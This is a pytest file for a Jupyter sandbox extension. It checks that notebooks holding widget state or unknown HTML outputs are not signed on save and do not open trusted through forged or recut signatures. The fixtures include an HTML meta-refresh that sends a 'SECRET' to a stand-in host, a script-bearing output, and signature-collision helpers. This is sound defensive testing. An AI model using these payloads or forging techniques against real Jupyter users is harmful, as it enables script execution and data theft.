"""A save signs no notebook that carries saved widget state (sandbox_kernel.lab_signatures).

Jupyter's contents manager signs on save every notebook whose code cells show
no rich output: a sandbox's notebook with anywidget state and a stream output
was signed by a plain Ctrl+S, and opened again it ran its script in Lab
(tests/browser/test_saved_widget_state.py attacks that in a browser). The
control here is jupyter_server's own contents manager, unchanged.
"""

from __future__ import annotations

import json
import logging
import subprocess
import sys
from pathlib import Path
from typing import Any

import nbformat
import pytest
from jupyter_server.services.contents.filemanager import FileContentsManager
from nbformat.sign import NotebookNotary
from signature_attack import CROSS_MIDDLE, cross_scheme_pair, innocent_notebook, recut
from traitlets.config import Config

from sandbox_kernel.lab_signatures import (
    WITHHELD_KEY,
    CanonicalNotary,
    holds_widget_state,
    sign_no_widget_state,
    use_canonical_signatures,
    withhold_untrusted_widget_state,
)

STATE = {
    "application/vnd.jupyter.widget-state+json": {
        "version_major": 2,
        "version_minor": 0,
        "state": {"5a7e": {"model_name": "AnyModel", "model_module": "anywidget", "state": {"_esm": "x"}}},
    }
}


def _notebook(widgets: Any = None) -> dict[str, Any]:
    nb = nbformat.v4.new_notebook(  # type: ignore[no-untyped-call]
        cells=[
            nbformat.v4.new_code_cell(  # type: ignore[no-untyped-call]
                "print('report ready')",
                outputs=[nbformat.v4.new_output("stream", text="report ready\n")],  # type: ignore[no-untyped-call]
            )
        ]
    )
    if widgets is not None:
        nb.metadata["widgets"] = widgets
    return dict(nb)


def _manager(tmp_path: Path, guarded: bool) -> tuple[FileContentsManager, NotebookNotary]:
    """jupyter_server's contents manager, as the lab_saves extension leaves it when ``guarded``."""
    notary_dir = tmp_path / "notary"
    notary_dir.mkdir(exist_ok=True)
    # (the notary's folder by config, as a server's --NotebookNotary.data_dir)
    cm = FileContentsManager(root_dir=str(tmp_path), config=Config({"NotebookNotary": {"data_dir": str(notary_dir)}}))
    if guarded:
        use_canonical_signatures(cm)
        withhold_untrusted_widget_state(cm)
        sign_no_widget_state(cm, logging.getLogger("test"))
    assert cm.notary.db_file == str(notary_dir / "nbsignatures.db")
    return cm, cm.notary


def _saved_and_signed(cm: FileContentsManager, notary: NotebookNotary, name: str, nb: dict[str, Any]) -> bool:
    cm.save({"type": "notebook", "format": "json", "content": nb}, name)
    return bool(notary.check_signature(nbformat.read(str(Path(cm.root_dir) / name), as_version=4)))  # type: ignore[no-untyped-call]


def test_a_save_signs_no_notebook_with_saved_widget_state(tmp_path: Path) -> None:
    cm, notary = _manager(tmp_path, guarded=False)
    assert _saved_and_signed(cm, notary, "control.ipynb", _notebook(STATE))  # the control: signed
    cm, notary = _manager(tmp_path, guarded=True)
    assert not _saved_and_signed(cm, notary, "report.ipynb", _notebook(STATE))
    kept = nbformat.read(str(tmp_path / "report.ipynb"), as_version=4)  # type: ignore[no-untyped-call]
    assert kept.metadata["widgets"] == STATE  # nothing stored is lost
    # a notebook without widget state is signed as before
    assert _saved_and_signed(cm, notary, "plain.ipynb", _notebook())
    assert _saved_and_signed(
        cm,
        notary,
        "empty.ipynb",
        _notebook({"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {}}}),
    )


@pytest.mark.parametrize(
    ("widgets", "held"),
    [
        (None, False),
        ({}, False),
        ({"application/vnd.jupyter.widget-state+json": {"state": {}}}, False),
        (STATE, True),
        ({"other/key": {"state": {"m": {}}}}, True),
        ({"application/vnd.jupyter.widget-state+json": "weird"}, True),
        (["a list"], True),
        ({"application/vnd.jupyter.widget-state+json": {"state": {}, "extra": 1}}, True),
    ],
)
def test_what_counts_as_saved_widget_state(widgets: Any, held: bool) -> None:
    assert holds_widget_state(_notebook(widgets)) is held


def _trusted_when_opened(cm: FileContentsManager, name: str) -> list[bool]:
    notebook = cm.get(name)["content"]
    return [bool(cell.metadata.get("trusted")) for cell in notebook.cells if cell.cell_type == "code"]


@pytest.mark.parametrize("guarded", [False, True], ids=["control", "guarded"])
def test_a_notebook_cut_from_a_signed_ones_bytes_is_not_trusted(tmp_path: Path, guarded: bool) -> None:
    """nbformat's digest has no separators: a sandbox's innocent notebook,
    signed by the user's save, cut again into one whose metadata is widget
    state, opened trusted (a review of the no-signing save, in Lab)."""
    cm, _ = _manager(tmp_path, guarded=guarded)
    nbformat.write(innocent_notebook({"widgets": STATE}), str(tmp_path / "innocent.ipynb"))  # type: ignore[no-untyped-call]
    cm.save({"type": "notebook", "format": "json", "content": cm.get("innocent.ipynb")["content"]}, "innocent.ipynb")
    assert _trusted_when_opened(cm, "innocent.ipynb") == [True]  # signed by the save, in both
    saved = nbformat.read(str(tmp_path / "innocent.ipynb"), as_version=4)  # type: ignore[no-untyped-call]
    nbformat.write(recut(saved, {"widgets": STATE}), str(tmp_path / "report.ipynb"))  # type: ignore[no-untyped-call]
    assert holds_widget_state(nbformat.read(str(tmp_path / "report.ipynb"), as_version=4))  # type: ignore[no-untyped-call]
    assert _trusted_when_opened(cm, "report.ipynb") == [not guarded]


def test_canonical_signatures_hold_across_a_save_and_a_load(tmp_path: Path) -> None:
    """What the user's own Lab signs opens trusted again: rich outputs of
    cells run in the session, multi-line sources and outputs (written as lists
    of lines, read back joined)."""
    cm, _ = _manager(tmp_path, guarded=True)
    cell = nbformat.v4.new_code_cell("x = 1\ny = 2\nx + y")  # type: ignore[no-untyped-call]
    cell.metadata["trusted"] = True  # what Lab sends for a cell it ran
    cell.outputs = [
        nbformat.v4.new_output("execute_result", data={"text/html": "<b>3</b>\n<i>three</i>"}, execution_count=1)  # type: ignore[no-untyped-call]
    ]
    notebook = nbformat.v4.new_notebook(cells=[cell, nbformat.v4.new_markdown_cell("# a\nb")])  # type: ignore[no-untyped-call]
    cm.save({"type": "notebook", "format": "json", "content": notebook}, "mine.ipynb")
    assert _trusted_when_opened(cm, "mine.ipynb") == [True]
    text = (tmp_path / "mine.ipynb").read_text()
    (tmp_path / "mine.ipynb").write_text(text.replace("three", "four"))  # changed: no longer signed
    assert _trusted_when_opened(cm, "mine.ipynb") == [False]


def test_trust_signs_a_notebook_the_guarded_server_then_trusts(tmp_path: Path) -> None:
    cm, _ = _manager(tmp_path, guarded=True)
    nbformat.write(nbformat.from_dict(_notebook(STATE)), str(tmp_path / "report.ipynb"))  # type: ignore[no-untyped-call]
    assert _trusted_when_opened(cm, "report.ipynb") == [False]
    command = [sys.executable, "-m", "sandbox_kernel", "trust", "--notary-dir", str(tmp_path / "notary")]
    done = subprocess.run([*command, str(tmp_path / "report.ipynb")], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and "Signed" in done.stdout, done.stderr
    assert _trusted_when_opened(cm, "report.ipynb") == [True]
    # `jupyter trust` signs nbformat's digest, which the guarded server no longer accepts
    (tmp_path / "other.ipynb").write_text((tmp_path / "report.ipynb").read_text().replace("ready", "done"))
    with NotebookNotary(data_dir=str(tmp_path / "notary")) as plain:
        plain.sign(nbformat.read(str(tmp_path / "other.ipynb"), as_version=4))  # type: ignore[no-untyped-call]
    assert _trusted_when_opened(cm, "other.ipynb") == [False]
    missing = subprocess.run([*command, str(tmp_path / "nope.ipynb")], capture_output=True, text=True, timeout=120)
    assert missing.returncode == 1 and "nope.ipynb: no such file" in missing.stderr


@pytest.mark.parametrize("guarded", [False, True], ids=["control", "guarded"])
def test_a_save_signs_no_output_kind_it_does_not_know_to_be_text(tmp_path: Path, guarded: bool) -> None:
    """nbformat lists the output kinds that are not safe (results with data),
    and an ``update_display_data`` holding HTML, which Lab renders as a
    display, was signed by a plain save and shown trusted when opened again:
    its ``<meta http-equiv=refresh>`` took the page to an address of the
    cell's choosing (an attack review, in the guarded Lab)."""
    cm, _ = _manager(tmp_path, guarded=guarded)
    html = "<b>hi</b><meta http-equiv='refresh' content='0;url=http://127.0.0.1:9/?d=SECRET'>"
    update = {"output_type": "update_display_data", "data": {"text/html": html}, "metadata": {}, "transient": {}}
    cell = {"cell_type": "code", "id": "a1", "execution_count": 1, "metadata": {}, "source": "report()"}
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{**cell, "outputs": [update]}]}
    (tmp_path / "report.ipynb").write_text(json.dumps(notebook))
    opened = cm.get("report.ipynb")["content"]
    assert _trusted_when_opened(cm, "report.ipynb") == [False]
    cm.save({"type": "notebook", "format": "json", "content": json.loads(json.dumps(opened))}, "report.ipynb")
    assert _trusted_when_opened(cm, "report.ipynb") == [not guarded]
    # text outputs, and results without data, are signed as before
    text = {"output_type": "stream", "name": "stdout", "text": "ok\n"}
    empty = {"output_type": "display_data", "metadata": {}}
    plain = {**notebook, "cells": [{**cell, "outputs": [text, empty]}]}
    cm.save({"type": "notebook", "format": "json", "content": plain}, "plain.ipynb")
    assert _trusted_when_opened(cm, "plain.ipynb") == [True]


def test_jupyter_trust_of_a_crafted_notebook_trusts_no_other_in_the_guarded_server(tmp_path: Path) -> None:
    """With the secret itself as the key, nbformat's digest of a crafted
    notebook N1 was the canonical digest of another, N2 (saved widget state
    and HTML): the user's ``jupyter trust N1`` made N2 open trusted in the
    guarded Lab, and its widget state's script ran (an attack review). The
    canonical signatures' key is derived from the secret."""
    wanted = nbformat.v4.new_notebook(metadata={"widgets": STATE})  # type: ignore[no-untyped-call]
    cell = nbformat.v4.new_code_cell(f"x = 1  # {CROSS_MIDDLE}")  # type: ignore[no-untyped-call]
    cell.outputs = [nbformat.v4.new_output("display_data", data={"text/html": "<script>x()</script>"})]  # type: ignore[no-untyped-call]
    wanted.cells = [cell]
    n1, n2 = cross_scheme_pair(wanted)
    (tmp_path / "n1.ipynb").write_text(json.dumps(n1))
    notary_dir = tmp_path / "notary"
    notary_dir.mkdir()
    with NotebookNotary(data_dir=str(notary_dir)) as stock:  # what `jupyter trust n1.ipynb` does
        stock.sign(nbformat.read(str(tmp_path / "n1.ipynb"), as_version=nbformat.NO_CONVERT))  # type: ignore[no-untyped-call]
        assert stock.check_signature(nbformat.read(str(tmp_path / "n1.ipynb"), as_version=nbformat.NO_CONVERT))  # type: ignore[no-untyped-call]
    with CanonicalNotary(data_dir=str(notary_dir)) as canonical:  # type: ignore[no-untyped-call]
        assert not canonical.check_signature(n2), "a stock signature of one notebook trusted another"
        canonical.sign(n2)  # type: ignore[no-untyped-call]
        assert canonical.check_signature(n2)  # (its own signatures still hold)


@pytest.mark.parametrize("guarded", [False, True], ids=["control", "guarded"])
def test_an_untrusted_notebooks_widget_state_is_not_served(tmp_path: Path, guarded: bool) -> None:
    """Lab inserts a trusted empty code cell into a notebook opened with no
    cells, before the widget manager reads the saved state, so the Lab
    extension's guard took a sandbox's ``cells: []`` notebook for trusted and
    its anywidget script ran on open (an attack review, in the guarded Lab;
    tests/browser/test_saved_widget_state.py). The server serves the state
    of an untrusted notebook where no widget manager looks, and a save puts
    it back."""
    cm, _ = _manager(tmp_path, guarded=guarded)
    empty = {"nbformat": 4, "nbformat_minor": 5, "metadata": {"widgets": STATE}, "cells": []}
    (tmp_path / "empty.ipynb").write_text(json.dumps(empty))
    served = cm.get("empty.ipynb")["content"]
    assert ("widgets" in served.metadata) is not guarded
    assert (WITHHELD_KEY in served.metadata) is guarded
    cm.save({"type": "notebook", "format": "json", "content": json.loads(json.dumps(served))}, "empty.ipynb")
    on_disk = json.loads((tmp_path / "empty.ipynb").read_text())
    assert on_disk["metadata"]["widgets"] == STATE and WITHHELD_KEY not in on_disk["metadata"]
    if guarded:  # signed on the host by the user: served whole
        command = [sys.executable, "-m", "sandbox_kernel", "trust", "--notary-dir", str(tmp_path / "notary")]
        done = subprocess.run([*command, str(tmp_path / "empty.ipynb")], capture_output=True, text=True, timeout=120)
        assert done.returncode == 0, done.stderr
        assert cm.get("empty.ipynb")["content"].metadata["widgets"] == STATE
